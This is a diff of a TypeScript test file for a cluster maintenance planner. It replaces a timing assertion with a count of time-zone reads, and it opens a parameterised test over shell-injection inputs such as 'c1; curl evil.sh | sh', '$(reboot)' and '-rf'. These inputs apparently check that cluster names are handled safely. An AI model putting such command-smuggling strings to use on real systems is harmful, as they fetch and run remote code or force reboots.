@@ -65,17 +65,25 @@ describe('planOf', () => {
   });
 
   it('asks once when the next window opens, however many clusters there are', () => {
-    const many = Array.from({ length: 3_000 }, (_, index) => offCluster(index + 10));
-    const base = input(many);
-    const settings = {
-      ...base.settings,
-      maintenanceWindows: [{ days: ['saturday'] as const, from: '02:00', to: '04:00', timeZone: 'Asia/Shanghai' }],
+    const zoneReadsFor = (clusters: number) => {
+      let reads = 0;
+      const window = {
+        days: ['saturday'] as const,
+        from: '02:00',
+        to: '04:00',
+        get timeZone() {
+          reads += 1;
+          return 'Asia/Shanghai';
+        },
+      };
+      const base = input(Array.from({ length: clusters }, (_, index) => offCluster(index + 10)));
+      const { changes } = planOf({ ...base, settings: { ...base.settings, maintenanceWindows: [window] } });
+      expect(changes).toHaveLength(clusters);
+      expect(changes.every(({ answer }) => answer === 'stops')).toBe(true);
+      return reads;
     };
-    const began = performance.now();
-    const { changes } = planOf({ ...base, settings });
-    expect(performance.now() - began).toBeLessThan(3_000);
-    expect(changes).toHaveLength(3_000);
-    expect(changes.every(({ answer }) => answer === 'stops')).toBe(true);
+    expect(zoneReadsFor(1)).toBeGreaterThan(0);
+    expect(zoneReadsFor(300)).toBe(zoneReadsFor(1));
   });
 
   it.each(['c1; curl evil.sh | sh', '$(reboot)', "c1' '", '-rf', 'c1\nreboot', ''])(
